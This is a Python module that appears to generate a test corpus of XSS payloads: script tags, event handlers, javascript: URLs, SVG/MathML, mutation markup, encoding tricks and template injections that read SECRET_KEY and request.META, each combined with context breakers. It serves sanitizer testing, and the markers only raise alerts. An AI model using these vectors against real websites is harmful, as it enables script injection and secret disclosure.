"""A corpus of XSS payloads, written from the public cheat-sheet patterns.

Families: script tags, event handlers on every kind of element, `javascript:` and
`data:` URLs, entity and encoding tricks, SVG and MathML, broken and nested markup,
attribute and context breaking, and template injection (`{{ }}`, `{% %}`). Each base
vector is combined with the context breakers an attacker tries first (closing an
attribute, a textarea, a title, a comment…). Every payload, if it ever ran, would either
call alert() (a browser dialog) or set `window.__xss`: the browser test watches both.
"""

JS = ["alert(1)", "window.__xss=1"]

BASE_VECTORS = [
    # script tags
    "<script>{js}</script>",
    "<SCRIPT>{js}</SCRIPT>",
    "<script >{js}</script >",
    "<script/src=data:,{js}></script>",
    "<script src=//127.0.0.1/x.js></script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<script>/*</script><script>*/{js}</script>",
    "<script\x0c>{js}</script>",
    "<<script>{js};//<</script>",
    "<script type=module>{js}</script>",
    # event handlers
    "<img src=x onerror={js}>",
    '<img src=x onerror="{js}">',
    "<IMG SRC=x OnErRoR={js}>",
    "<img/src=x/onerror={js}>",
    "<img src=x onerror\x0b={js}>",
    "<img src onerror={js}>",
    "<body onload={js}>",
    "<svg onload={js}>",
    "<svg/onload={js}>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}>",
    "<textarea autofocus onfocus={js}></textarea>",
    "<details open ontoggle={js}>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<iframe onload={js}></iframe>",
    "<marquee onstart={js}>x</marquee>",
    "<div onmouseover={js}>survol</div>",
    "<a onclick={js} href=#>clic</a>",
    '<p style="animation-name:x" onanimationstart={js}>x</p>',
    "<object data=x onerror={js}></object>",
    "<form><button formaction=javascript:{js}>x</button></form>",
    "<isindex type=image src=1 onerror={js}>",
    "<image src=x onerror={js}>",
    "<style onload={js}></style>",
    # javascript: and data: URLs
    '<a href="javascript:{js}">lien</a>',
    '<a href="JaVaScRiPt:{js}">lien</a>',
    '<a href=" javascript:{js}">lien</a>',
    '<a href="java\tscript:{js}">lien</a>',
    '<a href="java&#x09;script:{js}">lien</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:{js}">lien</a>',
    '<a href="&#x6A;avascript&colon;{js}">lien</a>',
    '<a href="vbscript:msgbox(1)">lien</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">lien</a>',
    '<iframe src="javascript:{js}"></iframe>',
    '<iframe srcdoc="<script>{js}</script>"></iframe>',
    '<embed src="javascript:{js}">',
    '<object data="javascript:{js}"></object>',
    '<form action="javascript:{js}"><input type=submit></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
    '<base href="javascript:{js}//">',
    '<link rel=import href="data:text/html,<script>{js}</script>">',
    "javascript:{js}",
    "[clic](javascript:{js})",
    # SVG and MathML
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:{js}"><text x=20 y=20>x</text></a></svg>',
    "<svg><set attributeName=onmouseover to={js}></svg>",
    "<svg><foreignObject><iframe onload={js}></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror={js}></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    '<math href="javascript:{js}">x</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:{js}>x</maction></math>",
    # broken and nested markup, mutation XSS
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    '<img src="x` `<script>{js}</script>"` `>',
    '<a href=""><img src=x onerror={js}',
    "<!--<img src=x onerror={js}>-->",
    "<!--><img src=x onerror={js}>",
    "--!><img src=x onerror={js}>",
    "<![CDATA[<img src=x onerror={js}>]]>",
    "<title><img src=x onerror={js}></title>",
    "<xmp><img src=x onerror={js}></xmp>",
    "<listing><img src=x onerror={js}></listing>",
    "<template><img src=x onerror={js}></template>",
    '<table><td background="javascript:{js}">',
    '<div style="background:url(javascript:{js})">x</div>',
    '<div style="width:expression({js})">x</div>',
    "<img src=x:x onerror={js}//",
    "<a href=//evil.example/ target=_blank>tabnabbing</a>",
    # entity and encoding tricks
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;script&#62;{js}&#60;/script&#62;",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "%3Cscript%3E{js}%3C%2Fscript%3E",
    "\uff1cscript\uff1e{js}\uff1c/script\uff1e",
    "<scr\x00ipt>{js}</scr\x00ipt>",
    "\u2028<script>{js}</script>",
    # template injection
    "{{{{ {js} }}}}",
    "{{% debug %}}",
    "{{% load static %}}{{% static '<script>{js}</script>' %}}",
    "{{{{ settings.SECRET_KEY }}}}",
    "{{{{ request.META }}}}",
    "${{{js}}}",
    "#{{{js}}}",
    "<%= {js} %>",
    "{{{{constructor.constructor('{js}')()}}}}",
]

# How an attacker breaks out of the context the value may land in.
BREAKERS = [
    "{v}",
    '">{v}',
    "'>{v}",
    "</textarea>{v}",
    "</title>{v}",
    "--></script>{v}",
]


def build():
    payloads = []
    seen = set()
    for index, vector in enumerate(BASE_VECTORS):
        js = JS[index % 2]
        value = vector.format(js=js)
        for breaker in BREAKERS[: 4 if index % 3 else len(BREAKERS)]:
            payload = breaker.format(v=value)
            if payload not in seen:
                seen.add(payload)
                payloads.append(payload)
    return payloads


PAYLOADS = build()
assert len(PAYLOADS) >= 300, len(PAYLOADS)
